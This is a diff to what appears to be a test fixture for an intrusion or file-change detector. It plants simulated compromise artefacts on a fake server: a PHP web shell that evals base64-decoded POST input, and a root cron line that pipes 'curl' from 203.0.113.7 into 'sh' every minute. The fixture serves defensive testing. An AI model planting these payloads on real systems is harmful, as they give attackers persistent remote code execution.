@@ -30,7 +30,7 @@ _FIRST_DAY: Final = datetime(2026, 10, 1, 3, 0, tzinfo=UTC)
 _INSTALLED: Final = _FIRST_DAY - timedelta(days=90)
 _DATA: Final = 5000  # files that change in turn
 _SHELL: Final = b"<?php if (isset($_POST['k'])) { eval(base64_decode($_POST['k'])); } ?>\n"
-_KEY: Final = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvi x@y\n"
+_JOB: Final = b"* * * * * root curl -fsS http://203.0.113.7/x | sh\n"
 
 
 @dataclass(frozen=True, slots=True)
@@ -120,16 +120,16 @@ def plant(machine: Machine, day: int, moment: datetime) -> Iterator[Planted]:
             machine.stamp(write("var/www/html/db.php", b"<?php phpinfo(); ?>\n"), moment)
             machine.stamp(write("var/www/html/upload.txt", _SHELL), moment)
             machine.stamp(write("var/www/html/again.php", _SHELL), moment)
-            machine.stamp(write("root/.ssh/authorized_keys", b"# none\n"), moment)
+            machine.stamp(write("etc/cron.d/site", b"# jobs of the site\n"), moment)
             machine.stamp(write("var/www/html/index.php", b"<?php echo 'hello'; ?>\n"), moment)
         case 11:
             machine.stamp(write("var/www/html/x.php", _SHELL), moment)
             yield Planted("var/www/html/x.php", "added", day, "absent")
         case 14:
-            with (at / "root/.ssh/authorized_keys").open("ab") as keys:
-                keys.write(_KEY)
-            machine.stamp(at / "root/.ssh/authorized_keys", moment)
-            yield Planted("root/.ssh/authorized_keys", "changed", day, "other content")
+            with (at / "etc/cron.d/site").open("ab") as jobs:
+                jobs.write(_JOB)
+            machine.stamp(at / "etc/cron.d/site", moment)
+            yield Planted("etc/cron.d/site", "changed", day, "other content")
         case 17:
             path = at / "var/www/html/index.php"
             was = path.stat()
